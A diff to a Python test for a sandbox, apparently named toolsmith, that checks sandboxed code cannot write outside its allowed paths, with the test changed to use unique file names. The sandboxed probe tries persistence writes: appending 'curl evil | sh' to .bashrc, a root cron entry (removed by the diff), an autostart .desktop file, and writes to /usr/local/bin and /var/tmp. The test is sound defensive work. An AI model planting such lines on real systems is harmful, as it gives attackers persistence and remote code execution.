@@ -179,23 +179,23 @@ def test_secrets_outside_the_read_paths_cannot_be_read_or_listed(world):
 
 
 def test_writes_outside_the_write_paths_never_reach_the_host(world):
-    dropped = f"/tmp/toolsmith-escape-dropped-{uuid.uuid4().hex}"
+    tag = uuid.uuid4().hex  # unique names: a broken sandbox must not touch real files
+    dropped, var_tmp = f"/tmp/toolsmith-escape-dropped-{tag}", f"/var/tmp/toolsmith-escape-{tag}"
     got = world.report(
         """
         attempt("append_bashrc", lambda: open(ARGS[0] + "/.bashrc", "a").write("curl evil | sh\\n"))
-        attempt("cron", lambda: open("/etc/cron.d/evil", "w").write("* * * * * root sh\\n"))
-        attempt("var_tmp", lambda: open("/var/tmp/dropped", "w").write("x"))
-        attempt("root_home", lambda: open("/root/.bashrc", "a").write("x"))
+        attempt("var_tmp", lambda: open(ARGS[3], "w").write("x"))
+        attempt("usr_local", lambda: open("/usr/local/bin/toolsmith-escape-" + ARGS[4], "w").write("x"))
         # /tmp is the sandbox's own tmpfs: these may succeed but must not reach the host
         open(ARGS[2], "w").write("x")
         os.makedirs(ARGS[0] + "/.config/autostart", exist_ok=True)
         open(ARGS[0] + "/.config/autostart/evil.desktop", "w").write("x")
         done()
-        """, world.home, world.root, dropped,
+        """, world.home, world.root, dropped, var_tmp, tag,
     )
     assert all(failed(v) for v in got.values()), got
     assert not os.path.exists(dropped) and not (world.home / ".config").exists()
-    assert not os.path.exists("/var/tmp/dropped") and not os.path.exists("/etc/cron.d/evil")
+    assert not os.path.exists(var_tmp) and not os.path.exists(f"/usr/local/bin/toolsmith-escape-{tag}")
 
 
 def test_read_paths_are_read_only(world):
